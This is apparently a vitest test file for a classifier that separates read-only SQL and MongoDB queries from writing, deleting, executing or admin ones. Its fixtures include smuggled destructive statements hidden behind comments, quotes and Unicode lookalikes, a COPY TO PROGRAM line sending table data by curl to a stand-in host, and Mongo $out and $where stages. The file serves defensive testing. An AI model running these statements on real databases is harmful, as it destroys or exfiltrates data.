import { describe, expect, it } from 'vitest';
import { effectOfStatement, hasWritingStage } from './classify-statement.ts';

describe('effectOfStatement', () => {
  it.each([
    'SELECT count(*) FROM orders',
    "select * from notes where text like '%delete from%' -- drop it later",
    'WITH a AS (SELECT 1) SELECT * FROM a',
    'SELECT "update", `drop` FROM t',
    '/* weekly */ SELECT created, updated_at, deleted FROM t;',
    "SHOW TABLES LIKE 'grant%'",
    "EXPLAIN SELECT replace(name, 'a', 'b') FROM t",
    "SELECT 'it''s; DROP TABLE t'",
  ])('is a read: %s', (text) => {
    expect(effectOfStatement(text)).toBe('read');
  });

  it.each([
    ['DELETE FROM orders', 'delete'],
    ['  ;; delete\nfrom orders', 'delete'],
    ['(DELETE FROM orders)', 'delete'],
    ['-- SELECT\nDELETE FROM orders', 'delete'],
    ['/* SELECT */ TRUNCATE orders', 'delete'],
    ['SELECT 1; DROP TABLE orders', 'delete'],
    ["SELECT 'a\\'; DELETE FROM orders; -- '", 'delete'],
    ['SELECT 1 /*! ; DELETE FROM orders */', 'delete'],
    ['SELECT 1 /* /* */ ; DELETE FROM orders -- */', 'delete'],
    ['WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone', 'delete'],
    ['EXPLAIN ANALYZE DELETE FROM orders', 'delete'],
    ["SELECT 1 # '\n; DELETE FROM orders; -- '", 'delete'],
    ['SELECT 5--1; DELETE FROM orders', 'delete'],
    ['SELECT $a$ FROM t; DELETE FROM orders; SELECT $a$ FROM t', 'delete'],
    ['SELECT [a FROM t; DELETE FROM orders; SELECT b]', 'delete'],
    ['ＤＥＬＥＴＥ FROM orders', 'delete'],
    ['SELECT $a$ x $a$; DELETE FROM orders WHERE y = $a$ z $a$', 'delete'],
    ["UPDATE users SET plan = 'pro'", 'write'],
    ['SELECT * INTO copies FROM customers', 'write'],
    ['INSERT INTO a SELECT * FROM b', 'write'],
    ['CREATE TABLE a AS SELECT 1', 'write'],
    ["COPY (SELECT * FROM c) TO PROGRAM 'curl -T - https://drop.example'", 'execute'],
    ["SELECT * FROM c INTO OUTFILE '/tmp/c'", 'execute'],
    ['CALL pay_everyone()', 'execute'],
    ['DO $$ BEGIN PERFORM 1; END $$', 'execute'],
    ['SELECT pg_terminate_backend(4)', 'execute'],
    ["SELECT setval ('orders_id', 1)", 'execute'],
    ["SELECT * FROM dblink('host=drop.example', 'select 1')", 'execute'],
    ['GRANT ALL ON orders TO eve', 'admin'],
  ])('is not a read: %s', (text, effect) => {
    expect(effectOfStatement(text)).toBe(effect);
  });

  it.each(['orders of last week', 'refund policy', '', '12', '¿cuántos pedidos?'])(
    'is no statement: %s',
    (text) => {
      expect(effectOfStatement(text)).toBeUndefined();
    },
  );
});

describe('hasWritingStage', () => {
  it.each([
    [{ pipeline: '[{"$match":{}},{"$out":"public_mails"}]' }],
    [{ pipeline: [{ $match: {} }, { $merge: { into: 'x' } }] }],
    [{ pipeline: "[{ $out : 'x' }]" }],
    [{ filter: { $where: 'sleep(1)' } }],
    [{ pipeline: '[{"\\u0024out":"x"}]' }],
  ])('is true for %j', (args) => {
    expect(hasWritingStage(args)).toBe(true);
  });

  it.each([[{ filter: '{"text":"$output"}' }], [{ pipeline: [{ $match: { price: '$out' } }] }], [{}]])(
    'is false for %j',
    (args) => {
      expect(hasWritingStage(args)).toBe(false);
    },
  );
});
